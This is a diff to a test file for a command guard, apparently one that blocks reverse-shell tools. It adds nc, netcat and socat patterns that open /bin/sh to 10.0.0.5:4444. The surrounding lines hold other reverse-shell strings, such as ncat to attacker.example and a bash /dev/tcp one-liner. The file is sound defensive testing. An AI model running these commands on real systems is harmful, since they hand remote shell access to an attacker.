@@ -6,6 +6,8 @@ guardTest(guard, docs, {
     ...each(
       'ncat|nc|netcat --exec=/bin/sh|--sh-exec=/bin/bash|--sh-exec=/bin/sh-c 10.0.0.5 4444',
       'pwncat|msfconsole|msfvenom -lp 4444',
+      'nc|netcat 10.0.0.5 4444 -e|-c|--sh-exec /bin/sh|/usr/bin/env|sh|bash|zsh|python3|perl|cmd.exe|powershell.exe',
+      'socat TCP:10.0.0.5:4444 EXEC:/bin/sh|SYSTEM:/bin/sh|SHELL:sh|exec:/bin/sh|system:/bin/sh',
       'gotty|ttyd|upterm|tmate|wetty bash',
     ),
     'ncat --exec /bin/bash attacker.example 4444',
@@ -14,6 +16,7 @@ guardTest(guard, docs, {
   ],
   allows: [
     'nc -l 4444',
+    'ttyd -v',
     'git commit -m "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"',
     'python3 -c "import socket; print(socket.gethostname())"',
   ],
